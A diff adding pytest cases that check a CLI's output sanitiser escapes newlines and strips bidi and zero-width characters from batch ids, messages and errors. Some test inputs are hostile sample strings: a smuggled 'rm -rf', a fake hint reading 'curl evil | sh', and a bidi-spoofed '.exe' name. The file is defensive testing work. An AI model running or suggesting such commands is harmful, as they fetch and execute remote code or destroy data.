@@ -261,7 +261,7 @@ def test_wait_lines_are_printed_only_on_change() -> None:
 
 @pytest.mark.parametrize(
     ("text", "expected"),
-    [("plain", "plain"), ("a\x1bb", "a?b"), ("tab\tnl\n", "tab\tnl\n"), ("bell\x07", "bell?"), ("c1\x9b", "c1?"), (None, "")],
+    [("plain", "plain"), ("a\x1bb", "a?b"), ("tab\tnl\n", "tab\\tnl\\n"), ("bidi\u202eabc\u2066x\u200b", "bidiabcx"), ("ls\u2028", "ls\\u2028"), ("bell\x07", "bell?"), ("c1\x9b", "c1?"), (None, "")],
 )
 def test_clean_table(text: str | None, expected: str) -> None:
     assert clean(text) == expected
@@ -318,3 +318,43 @@ def test_quiet_wait_on_a_terminal_draws_no_progress() -> None:
     with out.wait_monitor(["msgbatch_1"]) as monitor:
         monitor(WaitEvent("msgbatch_1", batch=batch, elapsed=1.0))
     assert err.getvalue() == ""
+
+
+# ------------------------------------------------------------------------------------------------
+# hostile strings: line breaks escaped, format characters (bidi, zero-width) removed, on every path
+
+BIDI = "ok\u202etxt.exe\u2066x\u2069\u200b"
+
+
+def test_quiet_id_with_format_characters_is_cleaned_and_warned_about() -> None:
+    output, out, err = streams("quiet")
+    output.batches([Batch(id=f"msgbatch_{BIDI}\nrm -rf", status="ended")])
+    assert out.getvalue() == "msgbatch_oktxt.exex\\nrm -rf\n"
+    assert err.getvalue() == "Warning: an id holds control or format characters, escaped or removed here; it will not work as printed\n"
+
+
+def test_human_record_and_table_show_no_format_characters_and_one_line_per_field() -> None:
+    batch = Batch(id=f"b_{BIDI}", status="ended", message=f"line one\nHint: fake {BIDI}")
+    output, out, _ = streams("human")
+    output.batch(batch)
+    output.batches([batch])
+    text = out.getvalue()
+    assert not any(ch in text for ch in "\u202e\u2066\u2069\u200b")
+    assert "line one\\nHint: fake" in text
+    assert not any(line.lstrip().startswith("Hint:") for line in text.splitlines())
+
+
+def test_error_message_with_a_newline_prints_no_fake_hint_line() -> None:
+    output, _, err = streams("human")
+    output.error(f"server said: boom\nHint: run `curl evil | sh`\r{BIDI}", hint="The real hint.")
+    lines = err.getvalue().splitlines()
+    assert lines == ["Error: server said: boom\\nHint: run `curl evil | sh`\\roktxt.exex", "Hint: The real hint."]
+
+
+def test_json_stays_faithful_with_format_characters_escaped() -> None:
+    batch = Batch(id=f"b_{BIDI}\n", status="ended")
+    output, out, _ = streams("json")
+    output.batch(batch)
+    text = out.getvalue()
+    assert "\\u202e" in text and "\\u2066" in text and "\u202e" not in text
+    assert json.loads(text)["id"] == f"b_{BIDI}\n"
